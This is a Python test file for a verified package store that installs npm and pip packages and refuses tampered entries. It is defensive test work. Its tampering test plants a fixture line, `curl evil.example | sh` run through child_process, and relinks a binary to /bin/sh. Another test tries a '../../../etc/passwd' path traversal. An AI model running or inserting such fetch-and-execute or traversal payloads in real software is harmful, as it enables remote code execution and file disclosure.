"""The verified store: real npm and pip installs from verified archives, and refusal of tampering.

Packages here are written by the tests (tmp dirs) and have no dependencies, so neither npm nor
pip needs a registry: the installers' dependency paths are exercised by test_lock_flow.py.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest
from npm_registry import pack_directory

from distrust.fetch import FetchedArtifact, fetch
from distrust.gateway.store import (
    MANIFEST_NAME,
    StoreError,
    StoreMissingError,
    StoreTamperedError,
    entry_dir,
    install_artifact,
    remove_store_entry,
    store_root,
    verify_store_entry,
)
from distrust.model import Ecosystem, PackageRef

UNREACHABLE = "http://127.0.0.1:9"  # nothing may be fetched: the package has no dependencies


def npm_artifact(
    tmp_path: Path, *, scripts: dict[str, str] | None = None, bin_field: object = None
) -> FetchedArtifact:
    """A fetched npm tarball of our own tiny server, shaped like a registry artifact."""
    src = tmp_path / "src"
    src.mkdir()
    (src / "server.js").write_text("#!/usr/bin/env node\nconsole.log('tiny server');\n")
    (src / "lib.js").write_text("module.exports = 1;\n")
    manifest: dict[str, object] = {
        "name": "tiny-mcp",
        "version": "1.2.3",
        "bin": bin_field or {"tiny-mcp": "server.js"},
    }
    if scripts:
        manifest["scripts"] = scripts
    (src / "package.json").write_text(json.dumps(manifest))
    data, _ = pack_directory(src)
    tgz = tmp_path / "tiny-mcp-1.2.3.tgz"
    tgz.write_bytes(data)
    local = fetch(str(tgz))
    # fetch of a local archive says "local"; the store only cares about ref, archive and hash.
    return FetchedArtifact(
        ref=PackageRef(Ecosystem.NPM, "tiny-mcp", "1.2.3", pinned=True),
        root=local.root,
        files=local.files,
        integrity=local.integrity,
        source=f"{UNREACHABLE}/tiny-mcp/-/tiny-mcp-1.2.3.tgz",
        archive=local.archive,
        archive_sha256=local.archive_sha256,
    )


def test_npm_install_runs_from_store_and_verifies(tmp_path: Path) -> None:
    marker = tmp_path / "postinstall-ran"
    artifact = npm_artifact(
        tmp_path, scripts={"postinstall": f"node -e \"require('fs').writeFileSync('{marker}','x')\""}
    )
    entry = install_artifact(artifact, registry=UNREACHABLE)
    assert not marker.exists()  # install scripts never run
    assert entry.path == entry_dir("npm", "tiny-mcp", "1.2.3", artifact.archive_sha256 or "")
    assert entry.path.is_relative_to(store_root())
    assert entry.command == "node"
    assert entry.args == (str(entry.path / "node_modules" / "tiny-mcp" / "server.js"),)
    out = subprocess.run([entry.command, *entry.args], capture_output=True, text=True, check=True, timeout=30)
    assert out.stdout.strip() == "tiny server"
    assert (entry.path / "package-lock.json").is_file()
    manifest = json.loads((entry.path / MANIFEST_NAME).read_text())
    assert "node_modules/tiny-mcp/lib.js" in manifest["files"]
    assert manifest["files"]["node_modules/.bin/tiny-mcp"].startswith("symlink:")
    again = verify_store_entry(entry.path, entry.digest)
    assert again == entry
    # installing the same artifact again reuses the verified entry
    assert install_artifact(artifact, registry=UNREACHABLE) == entry


@pytest.mark.parametrize("how", ["edit", "add", "delete", "relink", "manifest", "lock-digest"])
def test_tampered_entry_is_refused(tmp_path: Path, how: str) -> None:
    entry = install_artifact(npm_artifact(tmp_path), registry=UNREACHABLE)
    server = entry.path / "node_modules" / "tiny-mcp" / "server.js"
    expected = entry.digest
    if how == "edit":
        server.chmod(0o644)
        server.write_text("require('child_process').exec('curl evil.example | sh')\n")
        needle = "changed: node_modules/tiny-mcp/server.js"
    elif how == "add":
        (entry.path / "node_modules" / "tiny-mcp" / "extra.js").write_text("1\n")
        needle = "added: node_modules/tiny-mcp/extra.js"
    elif how == "delete":
        (entry.path / "node_modules" / "tiny-mcp" / "lib.js").unlink()
        needle = "missing: node_modules/tiny-mcp/lib.js"
    elif how == "relink":
        link = entry.path / "node_modules" / ".bin" / "tiny-mcp"
        link.unlink()
        link.symlink_to("/bin/sh")
        needle = "changed: node_modules/.bin/tiny-mcp"
    elif how == "manifest":
        path = entry.path / MANIFEST_NAME
        doc = json.loads(path.read_text())
        doc["launch"]["args"] = ["/tmp/evil.js"]
        path.chmod(0o644)
        path.write_text(json.dumps(doc))
        needle = "manifest was edited"
    else:
        expected = "sha256:" + "0" * 64
        needle = "is not the"
    with pytest.raises(StoreTamperedError) as info:
        verify_store_entry(entry.path, expected)
    assert needle in str(info.value)
    assert str(entry.path) in str(info.value)


def test_missing_entry_and_removal(tmp_path: Path) -> None:
    entry = install_artifact(npm_artifact(tmp_path), registry=UNREACHABLE)
    remove_store_entry(entry.path)
    with pytest.raises(StoreMissingError, match="distrust lock"):
        verify_store_entry(entry.path, entry.digest)


def test_npm_without_bin_and_unsafe_names(tmp_path: Path) -> None:
    artifact = npm_artifact(tmp_path, bin_field={"tiny-mcp": "../../../etc/passwd"})
    with pytest.raises(StoreError, match="leaves the package"):
        install_artifact(artifact, registry=UNREACHABLE)
    # the failed install left nothing half-made behind
    parent = entry_dir("npm", "tiny-mcp", "1.2.3", "x" * 12).parent
    assert not parent.exists() or not any(parent.iterdir())
    for bad in ("..", "a/b/c", "x/y"):
        with pytest.raises(StoreError, match="refusing"):
            entry_dir("npm", bad, "1.0.0", "0" * 64)


def _wheel(tmp_path: Path, name: str = "hello_mcp", version: str = "0.1.0") -> Path:
    """A minimal pure-Python wheel of our own with one console script."""
    dist_info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": "def main():\n    print('hello from the store')\n",
        f"{dist_info}/METADATA": (
            f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n"
        ),
        f"{dist_info}/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: distrust-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
        f"{dist_info}/entry_points.txt": f"[console_scripts]\nhello-mcp = {name}:main\n",
    }
    record = []
    for path, text in files.items():
        digest = hashlib.sha256(text.encode()).digest()
        b64 = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
        record.append(f"{path},sha256={b64},{len(text.encode())}")
    record.append(f"{dist_info}/RECORD,,")
    files[f"{dist_info}/RECORD"] = "\n".join(record) + "\n"
    wheel = tmp_path / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, text in files.items():
            zf.writestr(path, text)
    return wheel


def test_pypi_wheel_installs_into_a_venv_with_hash_check(tmp_path: Path) -> None:
    wheel = _wheel(tmp_path)
    local = fetch(str(wheel))
    artifact = FetchedArtifact(
        ref=PackageRef(Ecosystem.PYPI, "hello-mcp", "0.1.0", pinned=True),
        root=local.root,
        files=local.files,
        integrity=local.integrity,
        source=str(wheel),
        archive=local.archive,
        archive_sha256=local.archive_sha256,
    )
    entry = install_artifact(artifact, registry="https://pypi.invalid")
    assert entry.args == (str(entry.path / "venv" / "bin" / "hello-mcp"),)
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    out = subprocess.run(
        [entry.command, *entry.args], capture_output=True, text=True, check=True, env=env, timeout=60
    )
    assert out.stdout.strip() == "hello from the store"
    verify_store_entry(entry.path, entry.digest)  # running it left the entry unchanged
    requirements = (entry.path / "requirements.txt").read_text()
    assert f"--hash=sha256:{artifact.archive_sha256}" in requirements


def test_pypi_sdist_is_refused(tmp_path: Path) -> None:
    sdist = tmp_path / "hello_mcp-0.1.0.tar.gz"
    with tarfile.open(sdist, "w:gz") as tar:
        setup = tmp_path / "setup.py"
        setup.write_text("raise SystemExit('must never run')\n")
        tar.add(setup, arcname="hello_mcp-0.1.0/setup.py")
    local = fetch(str(sdist))
    artifact = FetchedArtifact(
        ref=PackageRef(Ecosystem.PYPI, "hello-mcp", "0.1.0", pinned=True),
        root=local.root,
        files=local.files,
        integrity=local.integrity,
        source=str(sdist),
        archive=local.archive,
        archive_sha256=local.archive_sha256,
    )
    with pytest.raises(StoreError, match="only a wheel"):
        install_artifact(artifact, registry="https://pypi.invalid")
